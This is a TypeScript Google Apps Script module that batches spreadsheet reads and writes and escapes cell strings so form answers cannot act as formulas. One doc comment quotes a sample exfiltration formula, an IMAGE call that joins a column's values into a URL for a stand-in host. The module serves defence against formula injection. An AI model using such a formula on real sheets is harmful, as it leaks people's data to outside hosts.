/**
 * The wall around SpreadsheetApp: a tab is read with one getValues() and written with one
 * setValues(), whatever its length. Everything else works on plain arrays. Every string
 * written here is written as text, never as a formula (`asText`).
 */
export type Cell = string | number | boolean | Date;
export type Table = Cell[][];
type Sheet = GoogleAppsScript.Spreadsheet.Sheet;
type Book = GoogleAppsScript.Spreadsheet.Spreadsheet;

export function activeBook(): Book {
  return SpreadsheetApp.getActiveSpreadsheet();
}

/** Every tab's name and sheet, in one getSheets() call. */
export function tabsOf(book: Book): Map<string, Sheet> {
  return new Map(book.getSheets().map((s) => [s.getName(), s]));
}

export function readSheet(sheet: Sheet): Table {
  return sheet.getDataRange().getValues() as Table;
}

/** An empty sheet's data range is one empty cell: that is no rows. */
export function isEmptyTable(table: Table): boolean {
  return table.length === 0 || (table.length === 1 && table[0]!.every((c) => c === ''));
}

/**
 * Grows the tab to reach `lastRow` and `lastColumn` (1-based) when it is smaller: a new tab
 * has 1,000 rows and 26 columns, and Sheets refuses a range past them. One call per
 * dimension to grow, whatever the number of rows.
 */
export function fitSheet(sheet: Sheet, lastRow: number, lastColumn: number): void {
  const rows = sheet.getMaxRows();
  if (lastRow > rows) sheet.insertRowsAfter(rows, lastRow - rows);
  const columns = sheet.getMaxColumns();
  if (lastColumn > columns) sheet.insertColumnsAfter(columns, lastColumn - columns);
}

/**
 * The starts of a written string that Sheets does not keep as text: a formula's (= and +, -, @
 * as spreadsheets take them, and tab or CR before one), and an apostrophe, which it drops.
 */
const NOT_TEXT_START = /^[=+\-@\t\r']/;

/**
 * A cell as written: a string Sheets would take for a formula gets a leading apostrophe,
 * which makes it text (Sheets keeps the apostrophe out of the value). A form answer such as
 * `=IMAGE("https://x/?"&JOIN(",",E2:E999))` stays a name instead of sending the tab away.
 * An apostrophe rather than the plain-text number format ('@') because it costs no Apps
 * Script call, it holds whatever format the column is given later (pasting formats over a
 * column takes '@' away), and every write goes through this one wall.
 */
export function asText(cell: Cell): Cell {
  return typeof cell === 'string' && NOT_TEXT_START.test(cell) ? `'${cell}` : cell;
}

/** Writes `rows` at row `fromRow` (1-based) in one call; a ragged table is padded with ''. */
export function writeRows(sheet: Sheet, fromRow: number, rows: readonly (readonly Cell[])[], width?: number): void {
  if (rows.length === 0) return;
  const w = width ?? Math.max(...rows.map((r) => r.length));
  const padded = rows.map((r) => (r.length === w ? r : [...r, ...Array<Cell>(w - r.length).fill('')].slice(0, w)).map(asText));
  fitSheet(sheet, fromRow + padded.length - 1, w);
  sheet.getRange(fromRow, 1, padded.length, w).setValues(padded);
}

/** Replaces a read-only tab's rows under the header: one clear and one setValues, however many rows. */
export function replaceRows(sheet: Sheet | undefined, rows: Cell[][], width: number): void {
  if (!sheet) return;
  const last = sheet.getLastRow();
  if (last > 1) sheet.getRange(2, 1, last - 1, width).clearContent();
  if (rows.length > 0) writeRows(sheet, 2, rows, width);
}

/** Rows added under the last one, in one call. */
export function appendRows(sheet: Sheet, rows: readonly (readonly Cell[])[], width: number): void {
  writeRows(sheet, sheet.getLastRow() + 1, rows, width);
}

/** One column (1-based) from row 2 on, in one call. */
export function writeColumn(sheet: Sheet, column: number, values: readonly Cell[]): void {
  if (values.length === 0) return;
  fitSheet(sheet, values.length + 1, column);
  sheet.getRange(2, column, values.length, 1).setValues(values.map((v) => [asText(v)]));
}

/** Same values as the sheet shows them (Dates by their time, '' for empty). */
export function sameTable(a: readonly (readonly Cell[])[], b: readonly (readonly Cell[])[]): boolean {
  if (a.length !== b.length) return false;
  return a.every((row, i) => {
    const other = b[i]!;
    const width = Math.max(row.length, other.length);
    for (let c = 0; c < width; c++) if (!sameCell(row[c] ?? '', other[c] ?? '')) return false;
    return true;
  });
}

function sameCell(a: Cell, b: Cell): boolean {
  if (a instanceof Date || b instanceof Date) return a instanceof Date && b instanceof Date && a.getTime() === b.getTime();
  return a === b || String(a) === String(b);
}
